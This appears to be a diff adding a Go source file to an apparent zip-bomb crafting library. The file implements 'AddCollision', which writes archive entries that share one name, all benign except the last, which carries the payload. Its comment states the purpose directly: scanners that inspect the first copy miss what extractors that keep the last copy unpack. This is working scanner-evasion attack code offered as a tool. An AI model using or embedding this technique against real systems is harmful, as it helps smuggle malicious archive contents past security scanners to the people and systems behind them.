@@ -0,0 +1,56 @@
+package zipbomb
+
+import "github.com/hupe1980/zipbomb/pkg/filename"
+
+type CollisionOptions struct {
+	FilenameGen      filename.Generator
+	OnFileCreateHook OnFileCreateHookFunc
+	Method           uint16
+	CompressionLevel int // Deflate [-2,9]
+
+	// Benign is the content of all entries but the last.
+	Benign []byte
+
+	EncryptionOptions
+}
+
+// AddCollision adds numFiles entries with colliding names. All entries but
+// the last carry benign content, the last one carries the kernel. Scanners
+// that check the first copy miss the payload of extractors that keep the
+// last one.
+func (zb *ZipBomb) AddCollision(kernel Kernel, numFiles int, optFns ...func(o *CollisionOptions)) error {
+	opts := CollisionOptions{
+		FilenameGen:      filename.NewCollisionGenerator("readme.txt", filename.CollisionDuplicate),
+		CompressionLevel: 5,
+		Method:           Deflate,
+		Benign:           []byte("harmless"),
+	}
+
+	for _, fn := range optFns {
+		fn(&opts)
+	}
+
+	for i := 0; i < numFiles; i++ {
+		var data Kernel = BytesKernel(opts.Benign)
+		if i == numFiles-1 {
+			data = kernel
+		}
+
+		k, err := zb.newKernel(opts.FilenameGen.Generate(i), data, opts.Method, opts.CompressionLevel)
+		if err != nil {
+			return err
+		}
+
+		if err := zb.writeFiles([]fileRecord{{header: k.LocalFileHeader(), data: k.Data(), encryption: opts.EncryptionOptions}}); err != nil {
+			return err
+		}
+
+		zb.uncompressedSize = zb.uncompressedSize + int64(k.UncompressedSize())
+
+		if opts.OnFileCreateHook != nil {
+			opts.OnFileCreateHook(k.Name())
+		}
+	}
+
+	return nil
+}